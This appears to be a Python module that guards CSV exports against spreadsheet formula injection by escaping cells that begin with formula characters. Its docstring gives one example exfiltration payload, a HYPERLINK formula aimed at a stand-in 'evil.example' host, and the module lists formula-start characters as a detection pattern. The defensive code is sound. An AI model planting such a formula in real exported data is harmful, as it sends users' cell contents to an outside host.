"""CSV files meant to be opened in spreadsheet programs.

Every CSV the service hands out goes through :class:`SpreadsheetWriter`: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula by Excel or
LibreOffice (a name such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` becomes a link that
sends the neighbouring cell away), so such a cell gets a leading apostrophe, which spreadsheet
programs show as text. The standard library's :mod:`csv` does the quoting; no library defuses
formulas, so this small wrapper does.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _TextOut(Protocol):
    def write(self, text: str, /) -> object: ...


def defuse(value: str) -> str:
    """``value`` as a cell that a spreadsheet program will not run as a formula."""
    return f"'{value}" if value.startswith(FORMULA_START) else value


class SpreadsheetWriter:
    """A :func:`csv.writer` whose every cell is :func:`defuse`-d."""

    def __init__(self, out: _TextOut, *, delimiter: str = ",") -> None:
        self._writer = csv.writer(out, dialect="excel", delimiter=delimiter)

    def writerow(self, row: Iterable[str]) -> None:
        self._writer.writerow([defuse(cell) for cell in row])
